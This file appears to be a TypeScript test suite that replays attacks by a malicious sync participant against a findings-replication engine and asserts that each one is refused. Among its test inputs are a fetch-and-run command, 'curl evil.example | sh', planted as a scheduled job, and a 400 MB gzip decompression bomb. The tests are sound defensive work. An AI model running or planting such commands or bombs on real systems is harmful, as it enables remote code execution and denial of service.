import { writeFileSync, truncateSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { StateEngine } from '../../src/engine/index.js';
import { sync, setTrustDocument, hubState, type BatchSecurity, type HubStorage, type SyncResult } from '../../src/sync/index.js';
import { onBackend, TestClock } from '../support/engine.js';
import { allOf, fromOrigin as eventsFrom, headOf as head, streamOf } from '../support/log.js';
import { directoryHub, noSecurity, openReplica } from '../support/replicas.js';
import { makeTempDir, removeDir } from '../support/tmp.js';
import { keyPair, plantBatch, plantRaw, recordedBy, signedBy, type KeyPair } from '../support/trust.js';

/**
 * Each hole an attacker with write access to a hub found, replayed as the attack, and shown closed: the forged
 * batch refused with nothing of it applied, and honest data still flowing.
 */
const Trust = suite(onBackend('sync: an origin may say only what it is trusted to say (the attacks, replayed)'));
let dir = '';
let clock: TestClock;
let hub: HubStorage;
let honest: StateEngine;
let evil: StateEngine;
let replica: StateEngine;
let honestKey: KeyPair;
let evilKey: KeyPair;

Trust.before.each(async () => {
  dir = makeTempDir('trust');
  clock = new TestClock();
  clock.ms = Date.now(); // the clock bound is checked against the hub's own time of each object
  hub = directoryHub(dir);
  honest = await openReplica(dir, 'spoke-a', clock.now);
  evil = await openReplica(dir, 'evil', clock.now);
  replica = await openReplica(dir, 'replica', clock.now);
  honestKey = keyPair();
  evilKey = keyPair();
});
Trust.after.each(async () => {
  for (const engine of [honest, evil, replica]) await engine.close();
  removeDir(dir);
});

/** The replica trusts both spokes by key, each with every right: the legacy trusted-keys file. */
const trusting = (): BatchSecurity => ({
  encryptionKey: null,
  signingKey: null,
  trusted: new Map([
    ['spoke-a', honestKey.publicKey],
    ['evil', evilKey.publicKey],
  ]),
});
const run = (engine: StateEngine, direction: 'push' | 'pull' | 'bidirectional', security: BatchSecurity = noSecurity): Promise<SyncResult> =>
  sync(engine, hub, { direction, policy: 'latest_wins', batchSize: 2, security, clock: clock.now });
const fromOrigin = async (engine: StateEngine, origin: string) => (await eventsFrom(engine, origin)).length;
const headOf = (engine: StateEngine) => head(engine);

Trust('a forged batch of job events is refused whole, signed or not, and the scheduled command stays as it was', async () => {
  const job = await replica.jobs.add({ jobId: 'nightly', name: 'nightly', schedule: 'rate(1 day)', command: 'echo scan' });
  assert.is(job.command, 'echo scan');
  // The attacking spoke writes a job under the victim's job id in its own log, then signs it as a batch.
  await evil.jobs.add({ jobId: 'nightly', name: 'nightly', schedule: 'rate(1 day)', command: 'echo scan' });
  await evil.jobs.update('nightly', { schedule: 'rate(1 minute)', command: 'curl evil.example | sh' });
  const forged = await recordedBy(evil, (e) => e.stream.startsWith('job-'));
  await plantBatch(hub, 'evil', forged, { position: 0, sha256: null }, signedBy(evilKey));
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  assert.is((await run(honest, 'push', signedBy(honestKey))).success, true);
  const before = await headOf(replica);
  const result = await run(replica, 'pull', trusting());
  assert.is(result.success, false);
  assert.is(result.rejected_batches, 1);
  assert.match(result.errors.join('\n'), /pull evil: invalid batch evil\/0000000000\/\S+ line 1 \(evil\): "job-nightly" \(expected a scan, checkpoint, finding stream: only those replicate \(an origin may not send job events\)\)/);
  assert.is(await fromOrigin(replica, 'evil'), 0);
  assert.is((await replica.jobs.get('nightly'))?.command, 'echo scan');
  // Honest data still flows past the refused origin.
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
  assert.ok((await headOf(replica)) > before);
});

Trust('job events from elsewhere already in a log (written by an older version) never reach the jobs read model', async () => {
  await replica.jobs.add({ jobId: 'nightly', name: 'nightly', schedule: 'rate(1 day)', command: 'echo scan' });
  await evil.jobs.add({ jobId: 'nightly', name: 'nightly', schedule: 'rate(1 day)', command: 'echo scan' });
  clock.advance(60); // the forged update folds after the replica's own events
  await evil.jobs.update('nightly', { command: 'curl evil.example | sh' });
  // What an older replica imported without the closed list: the store keeps them, the projection ignores them.
  const jobEvents = (await recordedBy(evil, (e) => e.stream.startsWith('job-'))).map(({ position: _, ...e }) => e);
  await replica.backend.importReplicated(jobEvents, { foldCap: null, clockLimit: Date.now() }, () => []);
  await replica.rebuildProjections();
  assert.is((await replica.jobs.get('nightly'))?.command, 'echo scan');
});

Trust('a hidden batch is a gap: the origin stops there, and once the batch is back every suppression arrives', async () => {
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }, { findingId: 'f2', assetId: 'a', ruleId: 'r' }]);
  assert.is((await run(honest, 'push', signedBy(honestKey))).success, true);
  await honest.suppressFinding('f1', { by: 'secops', reason: 'accepted risk' });
  assert.is((await run(honest, 'push', signedBy(honestKey))).success, true);
  await honest.addFindingNote('f2', { by: 'secops', text: 'later' });
  assert.is((await run(honest, 'push', signedBy(honestKey))).success, true);
  const keys: string[] = [];
  for await (const k of hub.list('spoke-a/')) keys.push(k);
  assert.is(keys.length, 3);
  const hidden = await hub.read(keys[1] ?? '');
  await hub.delete(keys[1] ?? '');
  // The attacker edits the next batch's previous link to skip the hidden one: the signature no longer holds.
  const next = await hub.read(keys[2] ?? '');
  const first = await hub.read(keys[0] ?? '');
  await hub.delete(keys[2] ?? '');
  await hub.create(keys[2] ?? '', next?.body ?? Buffer.alloc(0), { ...(next?.metadata ?? {}), previous: first?.metadata.last_position ?? '', previous_sha256: first?.metadata.sha256 ?? '' });
  const edited = await run(replica, 'pull', trusting());
  assert.is(edited.success, false);
  assert.match(edited.errors.join('\n'), /metadata\.signature: .*expected a valid Ed25519 signature by spoke-a over its origin, positions, previous batch and body/);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
  // Unedited, the gap itself is named, with the missing range.
  await hub.delete(keys[2] ?? '');
  await hub.create(keys[2] ?? '', next?.body ?? Buffer.alloc(0), next?.metadata ?? {});
  const gap = await run(replica, 'pull', trusting());
  assert.match(gap.errors.join('\n'), /pull spoke-a: batches holding its positions \d+-\d+ are missing from the hub/);
  const status = (await hubState(replica.backend.log, hub.url)).origins.get('spoke-a');
  assert.match(status?.blocked?.reason ?? '', /missing from the hub/);
  // Put back, the rest applies in order and the suppression is there.
  await hub.create(keys[1] ?? '', hidden?.body ?? Buffer.alloc(0), hidden?.metadata ?? {});
  const repaired = await run(replica, 'pull', trusting());
  assert.equal(repaired.errors, []);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'suppressed');
  assert.is((await hubState(replica.backend.log, hub.url)).origins.get('spoke-a')?.blocked, null);
});

Trust('a hidden batch is detected without signatures too, from the chain of hashes', async () => {
  for (const id of ['f1', 'f2', 'f3']) {
    await honest.trackFindings([{ findingId: id, assetId: 'a', ruleId: 'r' }]);
    await run(honest, 'push');
  }
  const keys: string[] = [];
  for await (const k of hub.list('spoke-a/')) keys.push(k);
  await hub.delete(keys[1] ?? '');
  const result = await run(replica, 'pull');
  assert.match(result.errors.join('\n'), /are missing from the hub/);
  assert.equal([(await replica.getFindingState('f1'))?.lifecycle, await replica.getFindingState('f3')], ['new', null]);
});

Trust('an event recorded in year 5000 neither drags the clock nor wins latest_wins beyond the bound, and is reported', async () => {
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  await run(honest, 'push', signedBy(honestKey));
  await run(evil, 'pull', trusting());
  const far = new TestClock();
  far.ms = Date.UTC(5000, 0, 1);
  const lying = await openReplica(dir, 'evil', far.now);
  await lying.suppressFinding('f1', { by: 'evil', reason: 'hide it' });
  await lying.close();
  assert.is((await run(evil, 'push', signedBy(evilKey))).success, true);
  const pulled = await run(replica, 'pull', trusting());
  assert.is(pulled.success, true);
  assert.ok(pulled.capped_events >= 1);
  assert.match(pulled.warnings.join('\n'), /clock: evil recorded event \S+ at 5000-01-01T\S+, beyond its batch's time plus the skew bound; it folds at /);
  // The local clock went no further than its wall clock plus five minutes, and still moves on.
  clock.advance(1);
  await replica.resolveFinding('f1', { by: 'owner', reason: 'fixed' });
  const [mine] = await streamOf(replica, 'finding-f1');
  assert.ok((mine?.meta.recordedAt ?? '') < new Date(clock.ms + 6 * 60_000).toISOString(), mine?.meta.recordedAt);
  // Later than the capped instant, the local decision wins under latest_wins.
  clock.advance(10);
  await replica.suppressFinding('f1', { by: 'owner', reason: 'later' });
  assert.equal([(await replica.getFindingState('f1'))?.lifecycle, (await replica.getFindingState('f1'))?.suppressed_by], ['suppressed', 'owner']);
  assert.is((await hubState(replica.backend.log, hub.url)).origins.get('evil')?.capped, 1);
});

Trust('a hub whose clock runs ahead cannot drag the local clock past its wall clock plus the bound', async () => {
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  await run(honest, 'push');
  const far = new TestClock();
  far.ms = Date.UTC(5000, 0, 1);
  const lying = await openReplica(dir, 'spoke-a', far.now);
  await lying.addFindingNote('f1', { by: 'x', text: 'from the future' });
  await lying.close();
  await run(honest, 'push');
  // The hub says it made every object in year 5000 too: only the local bound is left.
  const ahead: HubStorage = { ...hub, read: async (key, options) => {
    const object = await hub.read(key, options);
    return object === null ? null : { ...object, createdAt: Date.UTC(5000, 0, 2) };
  } };
  await sync(replica, ahead, { direction: 'pull', policy: 'latest_wins', batchSize: 2, security: noSecurity, clock: clock.now });
  await replica.addFindingNote('f1', { by: 'me', text: 'now' });
  const [mine] = await streamOf(replica, 'finding-f1');
  // At most the bound ahead (and a millisecond a transaction since, as a clock ahead of the wall still moves on).
  assert.ok((mine?.meta.recordedAt ?? '9') < new Date(clock.ms + 5 * 60_000 + 1000).toISOString(), mine?.meta.recordedAt);
});

Trust('with STANCE_STATE_SYNC_KEY set, an unsealed batch is refused: no downgrade', async () => {
  const key = randomBytes(32);
  await evil.trackFindings([{ findingId: 'planted', assetId: 'a', ruleId: 'r' }]);
  await run(evil, 'push');
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  await run(honest, 'push', { encryptionKey: key, signingKey: null, trusted: null });
  const result = await run(replica, 'pull', { encryptionKey: key, signingKey: null, trusted: null });
  assert.match(result.errors.join('\n'), /pull evil: .*metadata\.encryption: "none" \(expected aes-256-gcm: STANCE_STATE_SYNC_KEY is set, so every batch must be sealed with it\)/);
  assert.is(await replica.getFindingState('planted'), null);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
});

Trust('a spoke that claims to be central decides nothing: central_wins follows the replica’s own configuration', async () => {
  await setTrustDocument(replica, { central: 'spoke-a' }, clock.now());
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  await sync(honest, hub, { direction: 'push', policy: 'central_wins', batchSize: 10, security: noSecurity, clock: clock.now });
  await sync(evil, hub, { direction: 'pull', policy: 'central_wins', batchSize: 10, security: noSecurity, central: true, clock: clock.now });
  clock.advance(1);
  await honest.suppressFinding('f1', { by: 'secops', reason: 'accepted' });
  clock.advance(1);
  await evil.resolveFinding('f1', { by: 'evil', reason: 'gone' });
  for (const engine of [honest, evil])
    await sync(engine, hub, { direction: 'push', policy: 'central_wins', batchSize: 10, security: noSecurity, central: engine === evil, clock: clock.now });
  const result = await sync(replica, hub, { direction: 'pull', policy: 'central_wins', batchSize: 10, security: noSecurity, clock: clock.now });
  assert.equal(result.errors, []);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'suppressed');
});

Trust('bombs are refused in bounded memory, naming the cap, and every other origin still pulls and the push runs', async () => {
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  await run(honest, 'push');
  const meta = (first: number, last: number) => ({
    format: 'stance-state-events-v2', origin: 'evil', count: '1', schema: '1', first_position: String(first), last_position: String(last),
    previous: '0', previous_sha256: 'genesis', first_recorded_at: clock.iso(), last_recorded_at: clock.iso(), encryption: 'none',
  });
  // 400 MB of newlines in a few hundred kilobytes.
  await plantRaw(hub, 'evil/0000000000/0000000000000001-0000000000000001.ndjson.gz', Buffer.alloc(0), meta(1, 1), gzipSync(Buffer.alloc(400 * 1024 * 1024, 0x0a), { level: 9 }));
  await replica.trackFindings([{ findingId: 'mine', assetId: 'a', ruleId: 'r' }]);
  const result = await run(replica, 'bidirectional');
  assert.match(result.errors.join('\n'), /pull evil: invalid batch evil\/\S+ body: "over the cap" \(expected at most 67108864 bytes once decompressed \(max_body_bytes\)\)/);
  assert.is(result.rejected_batches, 1);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
  assert.ok(result.batches_pushed >= 1, 'the local push still ran');
  // A 100k-deep array on one line: refused by its depth, no stack overflow.
  const deep = await openReplica(dir, 'deep', clock.now);
  await hub.delete('evil/0000000000/0000000000000001-0000000000000001.ndjson.gz');
  await plantRaw(hub, 'evil/0000000000/0000000000000001-0000000000000001.ndjson.gz', Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}\n`), meta(1, 1));
  const nested = await run(deep, 'pull');
  assert.match(nested.errors.join('\n'), /line 1: "\[{24}…" \(expected JSON nested at most 64 deep\)/);
  await deep.close();
});

Trust('an object larger than the cap is refused before its body is read', async () => {
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  await run(honest, 'push');
  const key = 'evil/0000000000/0000000000000001-0000000000000001.ndjson.gz';
  await plantRaw(hub, key, Buffer.from('x\n'), { format: 'stance-state-events-v2', origin: 'evil', count: '1' });
  // A sparse file: its header says 1.9 GB of body and the file is that long, without using the disk.
  const path = join(dir, 'hub', key);
  const text = `stance-hub-object/1\n{"metadata":{"count":"1","format":"stance-state-events-v2","origin":"evil","sha256":"${'0'.repeat(64)}"},"size":2000000000}\n`;
  writeFileSync(path, text);
  truncateSync(path, Buffer.byteLength(text) + 2_000_000_000);
  const result = await run(replica, 'pull');
  assert.match(result.errors.join('\n'), /pull evil: hub \S+: object "evil\/\S+" has a body of 2000000000 bytes, more than the 67108864 allowed/);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
});

Trust('an origin cannot squat another origin’s event ids: ids are scoped to their origin', async () => {
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  const [real] = await recordedBy(honest, (e) => e.stream === 'finding-f1');
  // The squatter writes its own event under the honest event's id, and gets there first.
  await evil.backend.commit([{ stream: 'finding-f9', events: [{ id: real?.id ?? '', type: 'FindingNoteAdded', data: { findingId: 'f9', by: 'x', text: 'squat', at: clock.iso() } }] }]);
  await run(evil, 'push');
  assert.equal((await run(replica, 'pull')).errors, []);
  await run(honest, 'push');
  const result = await run(replica, 'pull');
  assert.equal(result.errors, []);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
  assert.is((await allOf(replica)).filter((e) => e.id === (real?.id ?? '')).length, 2);
});

Trust('a garbage object under one origin stops only that origin; the sync exits as bad input naming it', async () => {
  await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
  await run(honest, 'push');
  await hub.create('evil/0000000000/0000000000000001-0000000000000002.ndjson.gz', Buffer.from('garbage'), { format: 'whatever' });
  await replica.trackFindings([{ findingId: 'mine', assetId: 'a', ruleId: 'r' }]);
  const result = await run(replica, 'bidirectional');
  assert.is(result.rejected_batches, 1);
  assert.match(result.errors.join('\n'), /pull evil: invalid batch evil\/0000000000\/0000000000000001-0000000000000002\.ndjson\.gz metadata\.format: "whatever"/);
  assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
  assert.ok(result.batches_pushed >= 1);
});

Trust.run();
